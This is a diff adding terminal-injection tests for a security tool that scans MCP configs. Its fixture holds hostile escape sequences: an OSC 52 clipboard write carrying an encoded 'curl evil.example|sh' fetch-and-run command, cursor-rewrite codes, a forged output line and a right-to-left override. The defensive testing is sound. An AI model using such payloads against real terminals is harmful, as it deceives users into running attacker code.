@@ -1,0 +1,121 @@
+"""What an attacker names reaches the user's terminal: a server name in a client config on the
+scanned machine, a tool name a server lists, a file name in a scanned tree. The real CLI runs
+on a pseudo-terminal, as a user runs it (click strips some escapes only when the output is no
+terminal): an OSC 52 in a config's server name, printed raw by `mcpward wrap`, wrote the
+user's clipboard in every terminal that honours it; a tool named with cursor moves, printed by
+`pins approve`, rewrote the lines above; a LF in a file name began a line of the scan's own in
+its list of files that could not be read. Every such line is printed through one sanitiser
+(``mcpward.output.text.printable``): controls and invisible characters shown escaped."""
+
+from __future__ import annotations
+
+import json
+import os
+import pty
+import select
+import subprocess
+import time
+from pathlib import Path
+
+import orjson
+from gateway_attack_kit import MCPWARD
+
+import mcpward
+
+#: A clipboard write (OSC 52), the cursor one line up and the line erased, a LF and a CR that
+#: begin a forged line, and a right-to-left override.
+HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[1A\x1b[2K\nall clear\r\u202etxt.exe"
+#: What must never reach the terminal raw.
+RAW = ("\x1b", "\x07", "\x9b", "\u202e")
+
+
+def _on_a_terminal(*args: str, env: dict[str, str] | None = None) -> tuple[int, str]:
+    """The CLI's exit code and everything it wrote to its terminal (standard output and error)."""
+    leader, follower = pty.openpty()
+    process = subprocess.Popen(
+        [*MCPWARD, *args],
+        stdin=subprocess.DEVNULL,
+        stdout=follower,
+        stderr=follower,
+        env={**os.environ, "PYTHONPATH": str(Path(mcpward.__file__).parents[1]), **(env or {})},
+    )
+    os.close(follower)
+    chunks: list[bytes] = []
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        ready, _, _ = select.select([leader], [], [], 1)
+        if ready:
+            try:
+                chunk = os.read(leader, 65536)
+            except OSError:  # the follower closed: the process ended
+                break
+            if not chunk:
+                break
+            chunks.append(chunk)
+        elif process.poll() is not None:
+            break
+    os.close(leader)
+    code = process.wait(timeout=30)
+    return code, b"".join(chunks).decode("utf-8", "replace")
+
+
+def _lines_naming(text: str, word: str) -> list[str]:
+    return [line for line in text.replace("\r\n", "\n").split("\n") if word in line]
+
+
+def test_a_server_name_in_a_config_cannot_write_the_clipboard_through_wrap(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    (home / ".cursor").mkdir(parents=True)
+    (home / ".cursor" / "mcp.json").write_text(
+        json.dumps({"mcpServers": {HOSTILE: {"command": "npx", "args": ["-y", "some-mcp@1.0.0"]}}}),
+        encoding="utf-8",
+    )
+    code, shown = _on_a_terminal(
+        "wrap", "--dry-run", "--home", str(home), env={"MCPWARD_DATA_DIR": str(tmp_path / "data")}
+    )
+    assert code == 0, shown
+    assert not any(raw in shown for raw in RAW), shown
+    # One line for the server, where its name is shown escaped; no line of the name's own.
+    assert len(_lines_naming(shown, "would wrap")) == 1 and "\\x1b]52;c;" in shown
+    assert not [line for line in shown.replace("\r\n", "\n").split("\n") if line.startswith("all clear")]
+    assert "\r" not in shown.replace("\r\n", "\n")
+
+
+def _session(pins: Path, tools: list[str]) -> list[str]:
+    from mcpward.gateway import GatewayConfig, build_interceptors
+    from mcpward.gateway._audit import AuditLog
+    from mcpward.gateway._relay import Relay
+    from mcpward.gateway.interface import Session
+
+    config = GatewayConfig.model_validate({"pins": {"store": str(pins)}, "baseline": {"enabled": False}})
+    relay = Relay(
+        Session(server="notes", target="t"),
+        build_interceptors(config, audit_log=AuditLog(pins.parent / "audit.jsonl")),
+        max_message=1 << 16,
+    )
+    relay.client_message(orjson.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}))
+    listed = [{"name": name, "description": "Notes.", "inputSchema": {"type": "object"}} for name in tools]
+    answer = relay.server_message(orjson.dumps({"jsonrpc": "2.0", "id": 1, "result": {"tools": listed}}))
+    return [tool["name"] for tool in orjson.loads(answer[0].data)["result"]["tools"]]
+
+
+def test_a_tool_name_a_server_lists_cannot_rewrite_the_terminal_through_pins_approve(tmp_path: Path) -> None:
+    pins = tmp_path / "pins.json"
+    assert _session(pins, ["get_notes"]) == ["get_notes"]  # pinned on first use
+    assert _session(pins, ["get_notes", HOSTILE]) == ["get_notes"]  # the new tool is withheld
+    code, shown = _on_a_terminal("pins", "approve", "notes", "--store", str(pins))
+    assert code == 0, shown
+    assert not any(raw in shown for raw in RAW), shown
+    assert len(_lines_naming(shown, "approved")) == 1 and "\\x1b[1A\\x1b[2K\\x0aall clear" in shown
+
+
+def test_a_file_name_in_a_scanned_tree_cannot_forge_a_line_of_the_scan(tmp_path: Path) -> None:
+    forged = "0 servers, 0 findings, 0 errors."
+    folder = tmp_path / "tree" / f"project\n{forged}" / ".cursor"
+    folder.mkdir(parents=True)
+    (folder / "mcp.json").write_text("{not json", encoding="utf-8")
+    code, shown = _on_a_terminal("scan", "--only-paths", "--path", str(tmp_path / "tree"))
+    assert code == 0, shown
+    assert "Files that could not be read" in shown
+    lines = shown.replace("\r\n", "\n").split("\n")
+    assert not [line for line in lines if "0 servers, 0 findings" in line and "\\x0a" not in line], shown
